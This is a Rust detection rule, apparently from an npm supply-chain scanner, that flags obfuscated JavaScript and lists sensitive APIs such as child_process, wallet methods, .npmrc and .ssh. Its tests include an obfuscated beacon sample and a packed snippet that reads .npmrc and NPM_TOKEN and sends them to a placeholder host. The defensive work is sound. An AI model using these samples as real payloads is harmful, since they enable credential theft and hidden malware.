//! Rule `obfuscated-code`.

use crate::model::Severity;
use crate::package::{FileCtx, Package};
use crate::rules::{Emitter, is_doc_path};

crate::declare_rule! {
    /// javascript-obfuscator and similar tools' signatures: families of `_0x…` identifiers, a
    /// rotated string array (`push(shift())` in a `while (!![])` loop), dense `\x`/`\u` escapes.
    /// JSFuck-style character picks (`(![]+[])[+[]]`) and p.a.c.k.e.r. output whose word table
    /// names two or more sensitive APIs count too (a packed date widget does not).
    /// Minified code is not obfuscated (see `minified-source`). `critical` when obfuscated code is
    /// spliced into readable code (not just a licence banner) in a file that runs on install or
    /// import (an injected payload), when its string table names two or more sensitive APIs
    /// (child_process, wallet providers, beacons, credentials; base64 tables are decoded in both
    /// the standard and javascript-obfuscator's lowercase-first alphabet), or when its table is
    /// encrypted (RC4) and the file loads modules by computed names. A separate obfuscated file,
    /// such as a protected license
    /// check, is `high` and judged by the verdict together with what else the file does.
    id: "obfuscated-code",
    category: Obfuscation,
    severity: High,
    capability: Some(crate::model::Capability::Obfuscated),
    title: "obfuscated code",
    incident: "the September 2025 chalk/debug payload and Shai-Hulud 2 bun_environment.js were javascript-obfuscator output",
    case_file: "index.js",
    flag: ["var _0x1a2b=['log','hello'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c;};var _0xa1b2=_0x2b3c('0x0');var _0xc3d4=_0x2b3c('0x1');console[_0xa1b2](_0xc3d4);function _0xe5f6(_0x1111,_0x2222,_0x3333){return _0x1111+_0x2222+_0x3333;}_0xe5f6(_0xa1b2,_0xc3d4,_0x1a2b);"],
    pass: ["function add(a, b) { return a + b } module.exports = add", "var a=function(b,c){return b+c},d=a(1,2);module.exports=d"],
}

/// How obfuscated a file looks: (score 0-100, what was seen).
pub fn score(f: &FileCtx) -> (u32, Vec<String>) {
    let mut why = Vec::new();
    let mut score = 0;
    let text = &f.text;
    let (obf, idents) = match &f.js {
        Some(js) => (js.obf_idents as usize, js.idents as usize),
        None => {
            let re = crate::regex!(r"\b_0x[0-9a-f]{4,6}\b");
            (re.find_iter(text).take(10_000).count(), 0)
        }
    };
    if obf >= 20 {
        score += 50;
        why.push(format!("{obf} _0x identifiers"));
    }
    if idents > 0 && obf * 5 >= idents && obf >= 20 {
        score += 20;
    }
    let rot = crate::regex!(
        r"\[['\x22]push['\x22]\]\(\s*_0x\w+\[['\x22]shift['\x22]\]\(\)\)|\.push\(\s*_0x\w+\.shift\(\)\)|while\s*\(\s*!!\[\]\s*\)"
    );
    if rot.is_match(text) {
        score += 40;
        why.push("rotated string array".into());
    }
    // JSFuck-style spelling: characters picked out of `false`, `true`, `undefined` and
    // `[object Object]` (`(![]+[])[+[]]` is "f") to build names like "constructor".
    let jsf = ["(![]+[])", "(!![]+[])", "([][[]]+[])", "([]+{})"]
        .iter()
        .map(|k| memchr::memmem::find_iter(text.as_bytes(), k.as_bytes()).count())
        .sum::<usize>();
    if jsf >= 8 {
        score += 60;
        why.push(format!("{jsf} JSFuck-style character picks"));
    }
    if text.len() > 2000 {
        let escapes = memchr::memmem::find_iter(text.as_bytes(), b"\\x").count()
            + memchr::memmem::find_iter(text.as_bytes(), b"\\u").count();
        if escapes * 6 * 100 / text.len() >= 25 {
            score += 40;
            why.push(format!("{escapes} escape sequences"));
        }
    }
    (score.min(100), why)
}

/// Sensitive APIs named by the strings of an obfuscated file (its string table, hex/unicode
/// escapes decoded by the analyser, and base64-encoded entries decoded here). Obfuscators move
/// every property name into that table, so the other rules cannot see `child_process`,
/// `ethereum.request` or `sendBeacon` being used; the table still names them.
fn hidden_apis(f: &FileCtx) -> Vec<&'static str> {
    const APIS: &[&str] = &[
        "child_process",
        "execSync",
        "spawn",
        "exec",
        "eval",
        "ethereum",
        "solana",
        "phantom",
        "signTransaction",
        "signAndSendTransaction",
        "eth_sendTransaction",
        "eth_requestAccounts",
        "XMLHttpRequest",
        "sendBeacon",
        "WebSocket",
        "keydown",
        "cookie",
        "localStorage",
        "clipboard",
        "readFileSync",
        "homedir",
        "process",
        "env",
        "https",
        "http",
        "request",
        "fetch",
        ".npmrc",
        ".ssh",
    ];
    let Some(js) = &f.js else { return Vec::new() };
    let mut found: Vec<&'static str> = Vec::new();
    let mut note = |s: &str| {
        if let Some(api) = APIS.iter().find(|a| **a == s.trim())
            && !found.contains(api)
        {
            found.push(api);
        }
    };
    let quoted = crate::regex!(r#"'([^'\\\n]{2,64})'|"([^"\\\n]{2,64})""#);
    let literals = quoted
        .captures_iter(&f.text)
        .take(50_000)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()));
    // A p.a.c.k.e.r. word table (`'fs|os|readFileSync|…'.split('|')`) lists every identifier.
    let table = crate::regex!(r#"'([\w$|]+)'\.split\('\|'\)"#);
    let words: Vec<&str> = if is_packed(&f.text) {
        table
            .captures_iter(&f.text)
            .take(4)
            .flat_map(|c| c.get(1).map_or("", |m| m.as_str()).split('|'))
            .collect()
    } else {
        Vec::new()
    };
    let derived = js
        .derived
        .iter()
        .take(20_000)
        .map(|(d, _)| d.as_str())
        .chain(words);
    for d in derived.chain(literals) {
        note(d);
        if let Some(t) = table_entry(d) {
            note(&t);
        }
    }
    found
}

/// A string-table entry's text: standard base64, or javascript-obfuscator's `stringArrayEncoding:
/// base64`, whose alphabet puts the lowercase letters first (decoded as base64 of the swapped
/// case, then UTF-8).
fn table_entry(d: &str) -> Option<String> {
    if d.len() < 4 || d.len() > 64 {
        return None;
    }
    // Mostly printable ASCII: what identifiers, URLs and messages decode to; random bytes that
    // happen to be valid UTF-8 are not.
    let readable = |t: &String| {
        let n = t.chars().count();
        n > 0
            && t.chars()
                .all(|c| !c.is_control() || c == '\n' || c == '\t' || c == '\r')
            && t.chars()
                .filter(|c| c.is_ascii_graphic() || *c == ' ')
                .count()
                * 10
                >= n * 9
    };
    let standard = crate::decode::base64_bytes(d).and_then(|b| String::from_utf8(b).ok());
    if let Some(t) = standard.filter(readable) {
        return Some(t);
    }
    let swapped: String = d
        .chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect();
    crate::decode::base64_bytes(&swapped)
        .and_then(|b| String::from_utf8(b).ok())
        .filter(readable)
}

/// Whether the file's string table is encrypted: most of its base64-shaped entries decode to
/// nothing readable under either alphabet (RC4-encoded tables), so what the code loads and calls
/// cannot be read from it.
fn table_is_opaque(f: &FileCtx) -> bool {
    let quoted = crate::regex!(r"'([A-Za-z0-9+/=]{8,64})'");
    let (mut read, mut opaque) = (0usize, 0usize);
    for c in quoted.captures_iter(&f.text).take(20_000) {
        let d = &c[1];
        // Plain words (`push`, `shift`, `readFileSync`) are not encoded entries.
        let mixed = d
            .bytes()
            .any(|b| b.is_ascii_digit() || b == b'+' || b == b'/')
            || d.bytes().filter(|b| b.is_ascii_uppercase()).count() >= 2;
        if !mixed {
            continue;
        }
        if table_entry(d).is_some() {
            read += 1;
        } else {
            opaque += 1;
        }
    }
    opaque >= 10 && opaque > 2 * read
}

/// How many characters of code (not comments, blank space or a `'use strict'` directive) the
/// text holds: the readable part a payload was spliced after.
fn code_chars_before(text: &str) -> usize {
    let b = text.as_bytes();
    let (mut i, mut n) = (0, 0);
    while i < b.len() {
        if b[i] == b'/' && b.get(i + 1) == Some(&b'/') {
            i += text[i..].find('\n').unwrap_or(b.len() - i);
        } else if b[i] == b'/' && b.get(i + 1) == Some(&b'*') {
            i += text[i + 2..].find("*/").map_or(b.len() - i, |e| e + 4);
        } else if i == 0 && text.starts_with("#!") {
            i += text.find('\n').unwrap_or(b.len());
        } else {
            n += usize::from(!b[i].is_ascii_whitespace());
            i += 1;
        }
    }
    let strict = ["'use strict'", "\"use strict\""]
        .iter()
        .filter(|d| text.contains(*d))
        .count();
    n.saturating_sub(strict * 13)
}

/// Dean Edwards' p.a.c.k.e.r.: `eval(function(p,a,c,k,e,d){…}('…',36,N,'w1|w2|…'.split('|'),0,{}))`.
fn is_packed(text: &str) -> bool {
    crate::regex!(r"eval\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)")
        .is_match(text)
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in pkg.files.iter().filter(|f| f.is_js()) {
        if is_doc_path(&f.path) {
            continue;
        }
        let (mut s, mut why) = score(f);
        // Packed code is common in old browser plugins; it counts as obfuscation only when its
        // word table names sensitive APIs (what a payload needs, not what a date widget needs).
        if s < 50 && is_packed(&f.text) && hidden_apis(f).len() >= 2 {
            s = 50;
            why.push("p.a.c.k.e.r. word table".into());
        }
        if s < 50 {
            continue;
        }
        // Where does the obfuscation start? The first `_0x` identifier, or the first escape.
        let off = f
            .text
            .find("_0x")
            .or_else(|| f.text.find("\\x"))
            .unwrap_or(0) as u32;
        let runs = pkg.is_install_file(f) || pkg.is_entry_file(f);
        // Appended means readable code precedes it; a licence banner or `'use strict'` does not
        // count (commercial obfuscated files start with one).
        let appended = f.lines() > 3 && code_chars_before(&f.text[..off as usize]) > 40;
        let hidden = hidden_apis(f);
        // Modules loaded by names an encrypted string table hides: nothing shows what it runs.
        let loads_hidden =
            f.js.as_ref()
                .is_some_and(|js| !js.dynamic_requires.is_empty())
                && table_is_opaque(f);
        if loads_hidden {
            why.push("modules loaded by names its encrypted string table hides".into());
        }
        // Obfuscation spliced into readable code that runs is an injected payload; a separate
        // obfuscated file beside readable ones (a protected license check) is judged by what it
        // does (the verdict pairs it with its other findings).
        let sev = if runs && appended || hidden.len() >= 2 || loads_hidden {
            Severity::Critical
        } else {
            Severity::High
        };
        let injected = if appended {
            " (appended to readable code)"
        } else {
            ""
        };
        let hides = if hidden.len() >= 2 {
            format!("; its string table hides {}", hidden.join(", "))
        } else {
            String::new()
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            format!("obfuscated code{injected}: {}{hides}", why.join(", ")),
        );
    }
}

#[cfg(test)]
mod hidden_api_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    // A string-array obfuscation whose table (base64 entries, as javascript-obfuscator's
    // `stringArrayEncoding: base64`) names wallet and beacon APIs.
    const HIDING: &str = "var _0x1a2b=['ZXRoZXJldW0=','cmVxdWVzdA==','c2VuZEJlYWNvbg=='];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=atob(_0x1a2b[_0x4d5e]);return _0x8b9c;};var _0xa1b2=window[_0x2b3c('0x0')];var _0xc3d4=_0x2b3c('0x1');navigator[_0x2b3c('0x2')]('u',_0xa1b2[_0xc3d4]);function _0xe5f6(_0x1111,_0x2222,_0x3333){return _0x1111+_0x2222+_0x3333;}_0xe5f6(_0xa1b2,_0xc3d4,_0x1a2b);var _0x1112=0,_0x1113=1,_0x1114=2,_0x1115=3,_0x1116=4,_0x1117=5;";
    const PLAIN: &str = "var _0x1a2b=['log','hello'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c;};var _0xa1b2=_0x2b3c('0x0');var _0xc3d4=_0x2b3c('0x1');console[_0xa1b2](_0xc3d4);function _0xe5f6(_0x1111,_0x2222,_0x3333){return _0x1111+_0x2222+_0x3333;}_0xe5f6(_0xa1b2,_0xc3d4,_0x1a2b);";

    fn packed(inner: &str) -> String {
        let mut words: Vec<&str> = Vec::new();
        for w in inner.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
            if !w.is_empty() && !words.contains(&w) {
                words.push(w);
            }
        }
        format!(
            "eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('0 1',36,{},'{}'.split('|'),0,{{}}))",
            words.len(),
            words.join("|")
        )
    }

    #[test]
    fn packed_code_whose_word_table_names_sensitive_apis_is_obfuscated() {
        let src = packed(
            "var t=require('fs').readFileSync(require('os').homedir()+'/.npmrc');require('https').request({host:'h'}).end(t+process.env.NPM_TOKEN)",
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(
            hits.iter()
                .any(|h| h.severity == Severity::Critical && h.message.contains("p.a.c.k.e.r.")),
            "{hits:?}"
        );
    }

    #[test]
    fn packed_date_widget_is_not_obfuscated() {
        let src = packed(
            "(function($){$.fn.ago=function(){return this.each(function(){var s=Math.round((Date.now()-new Date($(this).attr('datetime')))/1000);$(this).text(s+' seconds ago')})}})(jQuery);",
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(hits.is_empty(), "{hits:?}");
    }

    #[test]
    fn jsfuck_character_picks_are_obfuscation() {
        let src = "module.exports = 1;\n[][(![]+[])[+[]]+([][[]]+[])[!+[]+!+[]+!+[]+!+[]+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+([]+{})[+!+[]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+[]]+([]+{})[+!+[]]+(!![]+[])[+!+[]]]('x')()";
        let hits = run(&super::RULE, "index.js", src);
        assert!(
            hits.iter().any(|h| h.message.contains("JSFuck")),
            "{hits:?}"
        );
        let plain = "const ok = !![] && (a + []).length > 0; const f = (![] + []);";
        assert!(run(&super::RULE, "index.js", plain).is_empty());
    }

    #[test]
    fn critical_when_the_string_table_names_sensitive_apis() {
        let hits = run(&super::RULE, "dist/bundle.js", HIDING);
        assert!(
            hits.iter()
                .any(|h| h.severity == Severity::Critical && h.message.contains("ethereum")),
            "{hits:?}"
        );
    }

    #[test]
    fn critical_when_spliced_after_readable_code_in_the_entry_file() {
        let src = format!(
            "var path = require('path');\nfunction join(a, b) {{ return path.join(a, b) }}\nmodule.exports = join;\n{PLAIN}\n"
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical
                && h.message.contains("appended to readable code")),
            "{hits:?}"
        );
    }

    #[test]
    fn a_licence_banner_before_obfuscated_code_is_not_readable_code() {
        // Commercial obfuscated modules open with a copyright banner and `'use strict'`.
        let src = format!(
            "/*! GridCo license module (c) 2025 GridCo Ltd.\n * Obfuscated under the GridCo EULA. */\n// do not edit\n'use strict';\n{PLAIN}\n"
        );
        let hits = run(&super::RULE, "index.js", &src);
        assert!(!hits.is_empty());
        assert!(
            hits.iter()
                .all(|h| h.severity < Severity::Critical && !h.message.contains("appended")),
            "{hits:?}"
        );
    }

    #[test]
    fn reads_javascript_obfuscator_base64_table_entries() {
        // `stringArrayEncoding: base64` puts the lowercase letters first in its alphabet.
        assert_eq!(
            super::table_entry("Ahr0Chm6lY8").as_deref(),
            Some("https://")
        );
        assert_eq!(
            super::table_entry("Y2hpbGRfcHJvY2Vzcw==").as_deref(),
            Some("child_process")
        );
        // RC4-encrypted entries decode to bytes that are not text under either alphabet.
        assert_eq!(super::table_entry("W7ZcVmkYW5FdKCoA"), None);
    }

    #[test]
    fn critical_when_an_encrypted_table_hides_the_modules_it_loads() {
        let table: Vec<String> = (0..12).map(|i| format!("'W7ZcVmkYW5Fd{i:02}oA'")).collect();
        let src = format!(
            "var _0x1a2b=[{}];{PLAIN}var _0x9f=require(_0x2b3c('0x3'));",
            table.join(",")
        );
        let hits = run(&super::RULE, "dist/bundle.js", &src);
        assert!(
            hits.iter().any(|h| h.severity == Severity::Critical
                && h.message.contains("encrypted string table")),
            "{hits:?}"
        );
        // The same table without a computed require: judged by what else the file does.
        let src = format!("var _0x1a2b=[{}];{PLAIN}", table.join(","));
        let hits = run(&super::RULE, "dist/bundle.js", &src);
        assert!(!hits.is_empty());
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
    }

    #[test]
    fn not_critical_when_the_string_table_is_harmless() {
        let hits = run(&super::RULE, "dist/bundle.js", PLAIN);
        assert!(!hits.is_empty());
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "{hits:?}"
        );
    }
}
